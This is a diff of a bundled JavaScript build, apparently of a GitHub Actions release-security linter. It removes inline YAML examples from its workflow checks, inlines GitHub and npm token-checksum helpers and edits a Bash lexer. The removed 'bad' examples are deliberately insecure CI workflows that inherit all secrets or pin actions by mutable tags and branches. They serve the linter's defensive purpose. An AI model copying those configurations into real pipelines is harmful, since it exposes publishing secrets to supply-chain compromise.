-        bad: [
-            {
-                title: "another repository's workflow",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              uses: org/shared/.github/workflows/build.yml@11bd71901bbe5b1630ceea73d27597364c9af683
-              #     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: another repository's
-              secrets: inherit
-        `,
-            },
-            {
-                title: "a workflow of this repository",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              uses: ./.github/workflows/build.yml
-              #     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ medium: every secret is handed
-              secrets: inherit
-        `,
-            },
-            {
-                title: "in a workflow that also publishes",
-                yaml: `
-          on: push
-          jobs:
-            test:
-              uses: org/shared/.github/workflows/test.yml@v1
-              #     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: every secret
-              secrets: inherit
-            publish:
-              runs-on: ubuntu-latest
-              steps:
-                - run: npm publish
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "the one secret it needs",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              uses: ./.github/workflows/build.yml
-              secrets:
-                signing-key: \${{ secrets.SIGNING_KEY }}
-        `,
-            },
-            {
-                title: "none",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              uses: ./.github/workflows/build.yml
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "another repository's workflow"
     },
+    {
+      "title": "a workflow of this repository"
+    },
+    {
+      "title": "in a workflow that also publishes"
+    }
+  ],
+  "good": [
+    {
+      "title": "the one secret it needs"
+    },
+    {
+      "title": "none"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/workflow/unpinned-uses.js
@@ -8794,126 +7659,38 @@ function* unpinned_uses_inspect(uses, job) {
                 yield* unpinned_uses_inspect(uses, job);
     },
     examples: {
-        bad: [
-            {
-                title: "a tag, and an abbreviated SHA",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/checkout@v5
-                #       ^^^^^^^^^^^^^^^^^^^ medium: can change without notice
-                - uses: "pnpm/action-setup@41ff726"
-                #        ^^^^^^^^^^^^^^^^^^^^^^^^^ high: can change without notice
-        `,
-            },
-            {
-                title: "a branch in the job that publishes",
-                yaml: `
-          on: push
-          jobs:
-            publish:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: pypa/gh-action-pypi-publish@release/v1
-                #       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: this job publishes
-        `,
-            },
-            {
-                title: "a reusable workflow, and an action without a version",
-                yaml: `
-          on: push
-          jobs:
-            call:
-              uses: org/shared/.github/workflows/build.yml@main
-              #     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ can change without notice
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: org/setup
-                #       ^^^^^^^^^ names no version
-        `,
-            },
-            {
-                title: "an action in a list of steps that another job takes over by an alias",
-                yaml: `
-          on: push
-          jobs:
-            one:
-              runs-on: ubuntu-latest
-              steps: &steps
-                - uses: org/setup@v1
-                #       ^^^^^^^^^^^^ can change
-            two:
-              runs-on: ubuntu-latest
-              steps: *steps
-        `,
-            },
-            {
-                title: "an image by its tag, in a step of a composite action",
-                yaml: `
-          runs:
-            using: composite
-            steps:
-              - uses: docker://alpine:3.22
-              #       ^^^^^^^^^^^^^^^^^^^^ can change without notice
-        `,
-            },
-            {
-                title: "steps that run beside each other",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - parallel:
-                    - uses: org/setup@v1
-                    #       ^^^^^^^^^^^^ can change
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "a full SHA with its tag as a comment",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
-        `,
-            },
-            {
-                title: "actions and workflows of this repository, at the same commit",
-                yaml: `
-          on: push
-          jobs:
-            call:
-              uses: $/.github/workflows/build.yml
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: ./actions/setup
-                - uses: $/actions/scan-workflow
-        `,
-            },
-            {
-                title: "an image by its digest",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: docker://alpine@sha256:4b7ce07002c69e8f3d704a9c5d6fd3053be500b7f1c69fc0d80990c2ad8dd412
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "a tag, and an abbreviated SHA"
     },
+    {
+      "title": "a branch in the job that publishes"
+    },
+    {
+      "title": "a reusable workflow, and an action without a version"
+    },
+    {
+      "title": "an action in a list of steps that another job takes over by an alias"
+    },
+    {
+      "title": "an image by its tag, in a step of a composite action"
+    },
+    {
+      "title": "steps that run beside each other"
+    }
+  ],
+  "good": [
+    {
+      "title": "a full SHA with its tag as a comment"
+    },
+    {
+      "title": "actions and workflows of this repository, at the same commit"
+    },
+    {
+      "title": "an image by its digest"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/workflow/workflow-syntax.js
@@ -8932,63 +7709,23 @@ function* unpinned_uses_inspect(uses, job) {
                 yield { at: place, message };
     },
     examples: {
-        bad: [
-            {
-                title: "permissions written twice",
-                yaml: `
-          on: push
-          permissions: {}
-          permissions: write-all
-          #^^^^^^^^^^ high: for the second time, after line 2
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-        `,
-            },
-            {
-                title: "a key in other case, which is the same key to the runner",
-                yaml: `
-          on: push
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-            Build:
-          # ^^^^^ for the second time
-              runs-on: ubuntu-latest
-              steps: [{ run: make clean }]
-        `,
-            },
-            {
-                title: "a merge key",
-                yaml: `
-          on: push
-          jobs:
-            build: &build
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-            again:
-              <<: *build
-              #^ merges nothing here
-              steps: [{ run: make clean }]
-        `,
-            },
-        ],
-        good: [
-            {
-                title: "an anchor and its alias",
-                yaml: `
-          on: push
-          jobs:
-            build: &build
-              runs-on: ubuntu-latest
-              steps: [{ run: make }]
-            again: *build
-        `,
-            },
-        ],
+  "bad": [
+    {
+      "title": "permissions written twice"
     },
+    {
+      "title": "a key in other case, which is the same key to the runner"
+    },
+    {
+      "title": "a merge key"
+    }
+  ],
+  "good": [
+    {
+      "title": "an anchor and its alias"
+    }
+  ]
+},
 }));
 
 ;// CONCATENATED MODULE: ./.build/out/checks/workflow-registry.js
@@ -9190,161 +7927,14 @@ function parseWorkflowRef(text) {
 
 /***/ }),
 
-/***/ 5785:
+/***/ 6087:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 /* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   G: () => (/* binding */ defaultPolicy),
-/* harmony export */   O: () => (/* binding */ parsePolicy)
+/* harmony export */   l: () => (/* binding */ POLICY_PATH)
 /* harmony export */ });
-/* harmony import */ var js_yaml__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3243);
-/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_3__ = __nccwpck_require__(7428);
-/* harmony import */ var _failure_guard_error_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(7501);
-/* harmony import */ var _policy_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(9227);
-
-
-
-
-const refuse = (path, says, cause) => new _failure_guard_error_js__WEBPACK_IMPORTED_MODULE_1__/* .GuardError */ .U("policy", {
-    says: `${path} is not a policy: ${says}`,
-    fix: "Mend the file; docs/policy.md lists every key.",
-    cause,
-});
-function readYaml(path, text) {
-    try {
-        return (0,js_yaml__WEBPACK_IMPORTED_MODULE_0__/* .load */ .Hh)(text);
-    }
-    catch (error) {
-        throw refuse(path, error instanceof Error ? error.message : "malformed YAML", error);
-    }
-}
-/** Reads a policy; malformed YAML, a duplicate or an unknown key is a `GuardError` that names it. */
-function parsePolicy(path, text) {
-    const result = _policy_js__WEBPACK_IMPORTED_MODULE_2__/* .policySchema */ .w.safeParse(readYaml(path, text));
-    if (result.success)
-        return result.data;
-    throw refuse(path, zod__WEBPACK_IMPORTED_MODULE_3__/* .prettifyError */ .S1(result.error).replaceAll("\n", " "), result.error);
-}
-const defaultPolicy = () => _policy_js__WEBPACK_IMPORTED_MODULE_2__/* .policySchema */ .w.parse({ version: 1 });
-
-
-/***/ }),
-
-/***/ 9227:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-
-// EXPORTS
-__nccwpck_require__.d(__webpack_exports__, {
-  l: () => (/* binding */ POLICY_PATH),
-  w: () => (/* binding */ policySchema)
-});
-
-// EXTERNAL MODULE: ./node_modules/zod/v4/core/api.js
-var api = __nccwpck_require__(3759);
-// EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 9 modules
-var schemas = __nccwpck_require__(7597);
-;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/iso.js
-
-
-
-function datetime(params) {
-    return core._isoDateTime(ZodISODateTime, params);
-}
-function date(params) {
-    return api/* _isoDate */.db(schemas/* ZodISODate */.Brp, params);
-}
-function time(params) {
-    return core._isoTime(ZodISOTime, params);
-}
-function duration(params) {
-    return core._isoDuration(ZodISODuration, params);
-}
-
-;// CONCATENATED MODULE: ./.build/out/domain/policy/policy.js
-
 /** Where the policy lives unless an input says otherwise. */
 const POLICY_PATH = ".github/release-guard.yml";
-const policy_date = date({ error: "write a date such as 2027-01-31" });
-const ignore = schemas/* strictObject */.rej({
-    check: schemas/* string */.YjP().describe("Id of the check, or an alias such as `zizmor:unpinned-uses`."),
-    path: schemas/* string */.YjP().optional().describe("Only findings in this file."),
-    line: schemas/* int */.Whr().positive().optional().describe("Only findings that start in this line."),
-    reason: schemas/* string */.YjP().min(1).describe("Why this is acceptable; shown beside the finding."),
-    expires: policy_date.optional().describe("Last day on which this holds."),
-})
-    .describe("A finding that is accepted. It is still shown, as suppressed.");
-const SECRET_KINDS = [
-    "npm",
-    "pypi",
-    "testpypi",
-    "github-classic",
-    "github-fine-grained",
-    "github-installation",
-    "jwt",
-    "other",
-];
-const secret = schemas/* strictObject */.rej({
-    name: schemas/* string */.YjP()
-        .regex(/^[A-Za-z_][A-Za-z0-9_]*$/, { error: "write the name of an environment variable" })
-        .describe("Name of the secret and of the environment variable it is handed over in."),
-    kind: schemas/* enum */.k5n(SECRET_KINDS).describe("What kind of credential it must be."),
-    for: schemas/* string */.YjP().optional().describe("Registry it is for, as in `targets`."),
-    project: schemas/* string */.YjP().optional().describe("Project that the token must be limited to."),
-});
-const npmTarget = schemas/* strictObject */.rej({
-    registry: schemas/* literal */.euz("npm"),
-    package: schemas/* string */.YjP().optional().describe("Expected name. Empty means the sealed package's."),
-    access: schemas/* enum */.k5n(["public", "restricted"]).default("public"),
-    tag: schemas/* string */.YjP()
-        .optional()
-        .describe("dist-tag. Empty means `latest`, which a prerelease refuses."),
-    "trusted-publishing": schemas/* boolean */.zMY()
-        .default(true)
-        .describe("Whether OIDC is used instead of a token."),
-    provenance: schemas/* enum */.k5n(["required", "none"]).default("required"),
-});
-const releaseTarget = schemas/* strictObject */.rej({
-    registry: schemas/* literal */.euz("github-release"),
-    prerelease: schemas/* boolean */.zMY().optional().describe("Empty means: whether the version is a prerelease."),
-});
-const pypiTarget = schemas/* strictObject */.rej({
-    registry: schemas/* literal */.euz("pypi"),
-    project: schemas/* string */.YjP().optional(),
-    "trusted-publishing": schemas/* boolean */.zMY().default(true),
-});
-/** `.github/release-guard.yml`. Unknown keys are refused, so that a typing error is never a silent default. */
-const policySchema = schemas/* strictObject */.rej({
-    version: schemas/* literal */.euz(1).describe("Version of this format."),
-    repository: schemas/* strictObject */.rej({
-        id: schemas/* string */.YjP().regex(/^\d+$/).optional().describe("Numeric id of the repository, pinned."),
-        branch: schemas/* string */.YjP().default("main").describe("The only branch that releases."),
-    })
-        .prefault({}),
-    targets: schemas/* array */.YOg(schemas/* discriminatedUnion */.gMt("registry", [npmTarget, pypiTarget, releaseTarget]))
-        .default([])
-        .describe("What is published where. Empty means npm and a GitHub release."),
-    secrets: schemas/* array */.YOg(secret).default([]).describe("Secrets that a release needs."),
-    permissions: schemas/* strictObject */.rej({
-        roles: schemas/* array */.YOg(schemas/* string */.YjP()).default(["maintain", "admin"]),
-        "actor-ids": schemas/* array */.YOg(schemas/* int */.Whr().positive())
-            .default([])
-            .describe("Numeric ids that may release whatever their role."),
-        environment: schemas/* string */.YjP().default("release"),
-        "max-attempt": schemas/* int */.Whr()
-            .positive()
-            .optional()
-            .describe("Highest run attempt that may release."),
-    })
-        .prefault({}),
-    scan: schemas/* strictObject */.rej({ ignore: schemas/* array */.YOg(ignore).default([]) }).prefault({}),
-    licences: schemas/* array */.YOg(schemas/* string */.YjP())
-        .default([])
-        .describe("SPDX expressions that a package may have. Empty means any valid one."),
-    "could-not-check": schemas/* record */.g1P(schemas/* string */.YjP(), schemas/* literal */.euz("warn"))
-        .default({})
-        .describe("Hygiene checks whose could-not-check is only a warning."),
-});
 
 
 /***/ }),
@@ -9429,56 +8019,6 @@ function dayOf(ms) {
     // oxlint-disable-next-line no-restricted-globals
     return new Date(shown).toISOString().slice(0, 10);
 }
-
-
-/***/ }),
-
-/***/ 8394:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   R: () => (/* binding */ base32)
-/* harmony export */ });
-const DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
-/** Base 32 of RFC 4648, section 6, without padding. */
-function base32(bytes) {
-    const bits = Array.from(bytes, (byte) => byte.toString(2).padStart(8, "0")).join("");
-    const groups = bits.match(/.{1,5}/g) ?? [];
-    return groups.map((group) => DIGITS.charAt(Number.parseInt(group.padEnd(5, "0"), 2))).join("");
-}
-
-
-/***/ }),
-
-/***/ 7986:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-
-// EXPORTS
-__nccwpck_require__.d(__webpack_exports__, {
-  J: () => (/* binding */ base62Checksum),
-  h: () => (/* binding */ hasBase62Checksum)
-});
-
-;// CONCATENATED MODULE: external "node:zlib"
-const external_node_zlib_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:zlib");
-;// CONCATENATED MODULE: ./.build/out/domain/token/base62-checksum.js
-
-const DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
-/** Characters that a checksum takes at the end of a token. */
-const CHECKSUM_LENGTH = 6;
-/** CRC32 of a token's random part in base 62, filled with zeros to six digits, as GitHub and npm append it. */
-function base62Checksum(body) {
-    let rest = (0,external_node_zlib_namespaceObject.crc32)(body);
-    let text = "";
-    while (rest > 0) {
-        text = DIGITS.charAt(rest % 62) + text;
-        rest = Math.floor(rest / 62);
-    }
-    return text.padStart(CHECKSUM_LENGTH, "0");
-}
-/** Whether the last six characters are the checksum of all before them. */
-const hasBase62Checksum = (random) => base62Checksum(random.slice(0, -CHECKSUM_LENGTH)) === random.slice(-CHECKSUM_LENGTH);
 
 
 /***/ }),
@@ -9638,7 +8178,7 @@ function readPypiCaveats(texts) {
 
 /***/ }),
 
-/***/ 7682:
+/***/ 9662:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -9653,10 +8193,46 @@ __nccwpck_require__.d(__webpack_exports__, {
 var clean_secret = __nccwpck_require__(3286);
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __nccwpck_require__(7598);
-// EXTERNAL MODULE: ./.build/out/domain/token/base32.js
-var base32 = __nccwpck_require__(8394);
-// EXTERNAL MODULE: ./.build/out/domain/token/base62-checksum.js + 1 modules
-var base62_checksum = __nccwpck_require__(7986);
+;// CONCATENATED MODULE: ./.build/out/domain/token/base32.js
+const DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+/** Base 32 of RFC 4648, section 6, without padding. */
+function base32(bytes) {
+    const bits = Array.from(bytes, (byte) => byte.toString(2).padStart(8, "0")).join("");
+    const groups = bits.match(/.{1,5}/g) ?? [];
+    return groups.map((group) => DIGITS.charAt(Number.parseInt(group.padEnd(5, "0"), 2))).join("");
+}
+
+;// CONCATENATED MODULE: ./.build/out/domain/token/crc32.js
+const POLYNOMIAL = 0xedb88320;
+/** CRC-32 of IEEE 802.3 over the text's UTF-8. For tokens only: `node:zlib` has it faster and costs every start 3 ms. */
+function crc32(text) {
+    let crc = 0xffffffff;
+    for (const byte of Buffer.from(text)) {
+        crc ^= byte;
+        for (let bit = 0; bit < 8; bit += 1)
+            crc = (crc >>> 1) ^ ((crc & 1) * POLYNOMIAL);
+    }
+    return ~crc >>> 0;
+}
+
+;// CONCATENATED MODULE: ./.build/out/domain/token/base62-checksum.js
+
+const base62_checksum_DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
+/** Characters that a checksum takes at the end of a token. */
+const CHECKSUM_LENGTH = 6;
+/** CRC32 of a token's random part in base 62, filled with zeros to six digits, as GitHub and npm append it. */
+function base62Checksum(body) {
+    let rest = crc32(body);
+    let text = "";
+    while (rest > 0) {
+        text = base62_checksum_DIGITS.charAt(rest % 62) + text;
+        rest = Math.floor(rest / 62);
+    }
+    return text.padStart(CHECKSUM_LENGTH, "0");
+}
+/** Whether the last six characters are the checksum of all before them. */
+const hasBase62Checksum = (random) => base62Checksum(random.slice(0, -CHECKSUM_LENGTH)) === random.slice(-CHECKSUM_LENGTH);
+
 ;// CONCATENATED MODULE: ./.build/out/domain/token/github-token.js
 
 
@@ -9690,7 +8266,7 @@ function readPrefixed(prefix, text) {
             checksum: "none",
             defect: `${lengths.join(" or ")} letters and digits belong after ${prefix}`,
         };
-    return { kind, checksum: (0,base62_checksum/* hasBase62Checksum */.h)(random) ? "right" : "wrong" };
+    return { kind, checksum: hasBase62Checksum(random) ? "right" : "wrong" };
 }
 function readFineGrained(text) {
     const kind = "github-fine-grained";
@@ -9705,7 +8281,7 @@ function readFineGrained(text) {
 /** The eight characters after the first 77 are the start of their SHA-256 in base 32; the last eight are not known. */
 function fineGrainedChecksumFits(text) {
     const digest = (0,external_node_crypto_.createHash)("sha256").update(text.slice(0, FINE_GRAINED_SIGNED)).digest();
-    const expected = (0,base32/* base32 */.R)(digest).slice(0, FINE_GRAINED_CHECKSUM);
+    const expected = base32(digest).slice(0, FINE_GRAINED_CHECKSUM);
     const found = text.slice(FINE_GRAINED_SIGNED, FINE_GRAINED_SIGNED + FINE_GRAINED_CHECKSUM);
     return expected === found;
 }
@@ -9785,7 +8361,7 @@ function readNpmToken(text) {
     // The registry's documents leave room for longer tokens, whose checksum nobody has described.
     if (random.length > npm_token_RANDOM_LENGTH)
         return { kind: "npm", checksum: "none" };
-    return { kind: "npm", checksum: (0,base62_checksum/* hasBase62Checksum */.h)(random) ? "right" : "wrong" };
+    return { kind: "npm", checksum: hasBase62Checksum(random) ? "right" : "wrong" };
 }
 /** npm's form before `npm_`: a UUID, which alone does not tell what it is. */
 function readOldNpmToken(text) {
@@ -11061,12 +9637,12 @@ function result_lessThan(lhs, rhs) {
     }
     return false;
 }
-// Do not toUpper the small-dotless-ı
+// Do not toUpper the small-dotless-\u0131
 function toUpperSpecial(s) {
     const sb = [];
     let i = 0;
     const len = s.length;
-    let found = s.indexOf("ı");
+    let found = s.indexOf("\u0131");
     while (i < len) {
         if (i < found) {
             sb.push(s.substring(i, found).toUpperCase()); // Append upper segment
@@ -11075,7 +9651,7 @@ function toUpperSpecial(s) {
         else if (i == found) {
             sb.push(s.substring(i, i + 1));
             i += 1;
-            found = s.indexOf("ı", i);
+            found = s.indexOf("\u0131", i);
         }
         else {
             sb.push(s.substring(i).toUpperCase()); // Append upper remaining
@@ -12182,7 +10758,7 @@ function closingOf(text, from) {
     }
     return -1;
 }
-/** Every `${{ … }}` of a text, in order. */
+/** Every `${{ \u2026 }}` of a text, in order. */
 function findExpressions(text) {
     const found = [];
     let from = text.indexOf("${{");
@@ -12306,8 +10882,8 @@ function powerInWords({ writes, secrets }) {
 /* harmony export */   L: () => (/* binding */ mayRunStep),
 /* harmony export */   x: () => (/* binding */ mayRun)
 /* harmony export */ });
-/* harmony import */ var _expression_evaluate_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(978);
-/* harmony import */ var _expression_expressions_in_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(1921);
+/* harmony import */ var _expression_evaluate_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(978);
+/* harmony import */ var _expression_expressions_in_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1921);
 /* harmony import */ var _world_of_outsider_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(5886);
 
 
@@ -12316,8 +10892,8 @@ function powerInWords({ writes, secrets }) {
 function mayHold(condition, trigger) {
     if (condition === undefined)
         return true;
-    const { expr } = (0,_expression_expressions_in_js__WEBPACK_IMPORTED_MODULE_1__/* .conditionOf */ .r)(condition);
-    return expr === undefined || (0,_expression_evaluate_js__WEBPACK_IMPORTED_MODULE_0__/* .truthOf */ .D)((0,_expression_evaluate_js__WEBPACK_IMPORTED_MODULE_0__/* .evaluate */ ._3)(expr, (0,_world_of_outsider_js__WEBPACK_IMPORTED_MODULE_2__/* .worldOfOutsider */ .p)(trigger))) !== false;
+    const { expr } = (0,_expression_expressions_in_js__WEBPACK_IMPORTED_MODULE_0__/* .conditionOf */ .r)(condition);
+    return expr === undefined || (0,_expression_evaluate_js__WEBPACK_IMPORTED_MODULE_1__/* .truthOf */ .D)((0,_expression_evaluate_js__WEBPACK_IMPORTED_MODULE_1__/* .evaluate */ ._3)(expr, (0,_world_of_outsider_js__WEBPACK_IMPORTED_MODULE_2__/* .worldOfOutsider */ .p)(trigger))) !== false;
 }
 const STATUS = new Set(["always", "failure", "cancelled"]);
 function callsStatus(expr) {
@@ -12333,7 +10909,7 @@ function callsStatus(expr) {
 function outlivesSkips({ if: condition }) {
     if (condition === undefined)
         return false;
-    const { expr } = (0,_expression_expressions_in_js__WEBPACK_IMPORTED_MODULE_1__/* .conditionOf */ .r)(condition);
+    const { expr } = (0,_expression_expressions_in_js__WEBPACK_IMPORTED_MODULE_0__/* .conditionOf */ .r)(condition);
     return expr === undefined || callsStatus(expr);
 }
 const neededBy = (job) => job.needs.flatMap(({ text }) => job.workflow.jobs.filter(({ id }) => id === text));
@@ -13813,7 +12389,7 @@ class TokenValue {
     targetPos = 0;
     targetEnd = 0;
     assignmentOperatorPos = -1;
-    // True when `value` is exactly the raw source span [pos, end) — lets consumers
+    // True when `value` is exactly the raw source span [pos, end) \u2014 lets consumers
     // reuse the string instead of slicing the source again.
     raw = false;
     // True when a word contains no quoting, escaped characters, or expansions.
@@ -13887,7 +12463,7 @@ const RESERVED_WORDS = new Map([
 function requiresFunctionKeyword(name) {
     return RESERVED_WORDS.has(name) || name === "time" || name === "[[" || name === "]]" || name.includes("=");
 }
-// Combined character type table — bit 0: metachar, bit 1: word-special
+// Combined character type table \u2014 bit 0: metachar, bit 1: word-special
 const charType = new Uint8Array(128);
 charType[CH_PIPE] = 1;
 charType[CH_AMP] = 1;
@@ -14019,7 +12595,7 @@ function findUnnested(s, target, pairTernaries = false, findNestedEnd) {
     }
     return -1;
 }
-// Lookup: identifier chars (a-z, A-Z, 0-9, _) — bit 0: start, bit 1: continue
+// Lookup: identifier chars (a-z, A-Z, 0-9, _) \u2014 bit 0: start, bit 1: continue
 const isIdChar = new Uint8Array(128);
 for (let i = CH_a; i <= CH_z; i++)
     isIdChar[i] = 3;
@@ -14156,7 +12732,7 @@ function setSpanToken(out, token, pos, end, raw) {
     out.raw = raw;
     out.keywordEligible = false;
 }
-// Positional reserved-word match over src[start, start+len) — no slice. Mirrors
+// Positional reserved-word match over src[start, start+len) \u2014 no slice. Mirrors
 // RESERVED_WORDS; first-char dispatch plus length checks reject fast.
 function matchReservedWord(src, start, len) {
     switch (src.charCodeAt(start)) {
@@ -14225,7 +12801,7 @@ const LexContext = {
     ArrayElement: 5,
     FunctionName: 6,
     CasePattern: 7,
-    // Arguments of eval and let: ordinary words, but `name=(…)` keeps its array value as in Bash.
+    // Arguments of eval and let: ordinary words, but `name=(\u2026)` keeps its array value as in Bash.
     EvalArgument: 8,
 };
 // `${` followed by blank, newline or `|` opens a brace command substitution, not a parameter.
@@ -14253,7 +12829,7 @@ class Lexer {
     // scripts), sharing the MAX_SYNTAX_NESTING budget across lazily created lexers.
     _nestingDepth = 0;
     // `start`/`end` bound the lexer to a window of `src` so substitution scripts can be
-    // parsed in place against the original source — every position is then absolute, with
+    // parsed in place against the original source \u2014 every position is then absolute, with
     // no slicing or re-basing. Defaults cover the whole string (the common top-level parse).
     constructor(src, start = 0, end = src.length, parenBoundary = false, context = createSubstitutionContext()) {
         this.src = src;
@@ -14380,7 +12956,7 @@ class Lexer {
         }
         return close;
     }
-    /** Find the closing bracket of `$[ … ]`, which unlike a subscript does not recurse into `${ }`. */
+    /** Find the closing bracket of `$[ \u2026 ]`, which unlike a subscript does not recurse into `${ }`. */
     findClosingArithmeticBracket(start, end = this.srcEnd) {
         const limit = Math.min(end, this.srcEnd);
         let window = this._arithmeticBracketWindow;
@@ -15054,7 +13630,7 @@ class Lexer {
         while (i < bodyEnd) {
             const ch = src.charCodeAt(i);
             if (ch === 0x5c /* \\ */) {
-                // Backslash escape — in unquoted heredoc, \\$, \\`, \\\\ are special
+                // Backslash escape \u2014 in unquoted heredoc, \\$, \\`, \\\\ are special
                 if (i + 1 < bodyEnd) {
                     const nc = src.charCodeAt(i + 1);
                     if (nc === CH_NL) {
@@ -15122,8 +13698,8 @@ class Lexer {
     // Read the right-hand operand of =~ in [[ ]]. Bash ends the operand at
     // depth-zero whitespace, `)`, `;`, `&`, `<`, or `>` (but `<(`/`>(` open a
     // process substitution and `|` never delimits). An unquoted `(` opens a
-    // group that consumes everything — `]]`, newlines, and metacharacters
-    // included — until its matching `)`; inside a group only quotes stay opaque
+    // group that consumes everything \u2014 `]]`, newlines, and metacharacters
+    // included \u2014 until its matching `)`; inside a group only quotes stay opaque
     // and expansion parens count naively, matching bash. Quotes and expansions
     // at depth zero skip via the same readers normal words use, so their errors
     // and spans stay identical. The token is the raw source span; value and
@@ -15350,7 +13926,7 @@ class Lexer {
             setToken(out, Token.Newline, "\n", tokenStart, this.pos);
             return;
         }
-        // In test mode (inside [[ ]]), < and > are string comparison operators, not redirects —
+        // In test mode (inside [[ ]]), < and > are string comparison operators, not redirects \u2014
         // except for an adjacent '(', which still opens a process substitution
         if (ctx === LexContext.TestMode &&
             (ch === CH_LT || ch === CH_GT) &&
@@ -15401,7 +13977,7 @@ class Lexer {
                     this.pos += 2;
                     setToken(out, Token.Pipe, "|&", tokenStart, this.pos);
                     return true;
-                } // |& → pipe (stderr merge)
+                } // |& \u2192 pipe (stderr merge)
                 this.pos++;
                 setToken(out, Token.Pipe, "|", tokenStart, this.pos);
                 return true;
@@ -15412,7 +13988,7 @@ class Lexer {
                     return true;
                 }
                 if (next === CH_GT) {
-                    // &> or &>> — redirect, not background
+                    // &> or &>> \u2014 redirect, not background
                     this.pos += 2;
                     const append = this.pos < this.srcEnd && src.charCodeAt(this.pos) === CH_GT;
                     if (append)
@@ -15684,7 +14260,7 @@ class Lexer {
     // Advance past the heredoc body and its delimiter line; return the body end
     // (start of the delimiter line, or srcEnd when delimited by end-of-input).
     // With parenEnds (inside $(...)), a line starting with the delimiter directly
-    // followed by ")" also terminates the body, resuming at the ")" — bash treats
+    // followed by ")" also terminates the body, resuming at the ")" \u2014 bash treats
     // the substitution's closing paren as end-of-file for its heredocs.
     // `join` crosses `\`+newline pairs, which an unquoted delimiter may straddle.
     matchHereDocDelimiter(delimiter, lineStart, end, join) {
@@ -15950,7 +14526,7 @@ class Lexer {
                 return;
             }
         }
-        // FD number prefix: all-digit word followed by < or > → redirect with fd
+        // FD number prefix: all-digit word followed by < or > \u2192 redirect with fd
         if (!hasExpansions && this.pos < this.srcEnd) {
             const nc = src.charCodeAt(this.pos);
             if (nc === CH_LT || nc === CH_GT) {
@@ -16296,7 +14872,7 @@ class Lexer {
                 const dollarStart = pos;
                 if (assignmentState >= 0 && assignmentState < ASSIGNMENT_INDEX_BASE)
                     assignmentState = ASSIGNMENT_INVALID;
-                // `$'…'` and `$"…"` quote: even empty, they make a word.
+                // `$'\u2026'` and `$"\u2026"` quote: even empty, they make a word.
                 const next = pos + 1 < len ? src.charCodeAt(pos + 1) : 0;
                 if (next === CH_SQUOTE || next === CH_DQUOTE)
                     quoted = true;
@@ -16642,8 +15218,8 @@ class Lexer {
             : parseGlobParts(this.src, start, end, undefined);
     }
     // Parse a parameter-expansion sub-field (operand, slice bound, replacement pattern) over
-    // the window [start, end) of the original source. Parsing in place — rather than against a
-    // detached slice — gives the word and any nested substitutions absolute offsets, and
+    // the window [start, end) of the original source. Parsing in place \u2014 rather than against a
+    // detached slice \u2014 gives the word and any nested substitutions absolute offsets, and
     // composes through nested ${...}. The `${...}` inner is a verbatim substring of the
     // source, so every sub-field offset maps straight back.
     parseSubFieldWord(start, end, context = "word", arithmetic = false) {
@@ -16733,7 +15309,7 @@ class Lexer {
         let hasExpansions = false;
